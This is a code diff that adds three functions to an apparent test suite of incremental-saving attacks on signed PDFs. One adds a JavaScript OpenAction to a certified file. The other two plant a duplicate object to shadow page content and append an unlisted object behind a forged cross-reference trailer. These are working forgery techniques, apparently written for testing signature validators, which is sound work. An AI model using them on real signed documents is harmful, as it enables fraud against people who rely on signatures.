@@ -125,6 +125,52 @@ def append_signature_field(pdf: bytes) -> bytes:
     return _extended(pdf, change)
 
 
+def append_script(pdf: bytes) -> bytes:
+    """A script that runs when the file is opened, with the trust given to certified files."""
+
+    def change(writer: IncrementalPdfFileWriter) -> None:
+        writer.root["/OpenAction"] = generic.DictionaryObject(
+            {
+                pdf_name("/S"): pdf_name("/JavaScript"),
+                pdf_name("/JS"): generic.pdf_string("app.alert('paid')"),
+            }
+        )
+        writer.update_root()
+
+    return _extended(pdf, change)
+
+
+def append_duplicate_object(pdf: bytes) -> bytes:
+    """The page's content once more under its own number: a program that rebuilds the list of
+    objects shows the second one, a program that reads the list the first."""
+    number = IncrementalPdfFileWriter(io.BytesIO(pdf)).root["/Pages"]["/Kids"][0]
+    content = number.get_object().raw_get("/Contents")
+    reference = content[0] if isinstance(content, generic.ArrayObject) else content
+    start = re.findall(rb"startxref\s+(\d+)", pdf)[-1]
+    evil = b"1 g 50 600 400 100 re f"
+    return (
+        pdf
+        + b"\n%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n"
+        % (
+            reference.idnum,
+            len(evil),
+            evil,
+        )
+        + (b"startxref\n%s\n%%%%EOF\n" % start)
+    )
+
+
+def append_unlisted_object(pdf: bytes) -> bytes:
+    """The same before a list of its own, which does not name the object."""
+    forged = append_duplicate_object(pdf)
+    old = re.findall(rb"startxref\s+(\d+)", pdf)[-1]
+    body = forged[: forged.rindex(b"startxref")]
+    root = re.findall(rb"/Root (\d+ \d+ R)", pdf)[-1]
+    size = re.findall(rb"/Size (\d+)", pdf)[-1]
+    trailer = b"xref\n0 0\ntrailer\n<</Size %s /Root %s /Prev %s>>\n" % (size, root, old)
+    return body + trailer + b"startxref\n%d\n%%%%EOF\n" % len(body)
+
+
 def replace_stamp(pdf: bytes) -> bytes:
     """Another picture for the stamp of a signature already made."""
 
@@ -150,6 +196,9 @@ INCREMENTAL_SAVING: tuple[Attack, ...] = (
     append_page_content,
     append_annotation,
     append_signature_field,
+    append_script,
+    append_duplicate_object,
+    append_unlisted_object,
     replace_stamp,
 )
 
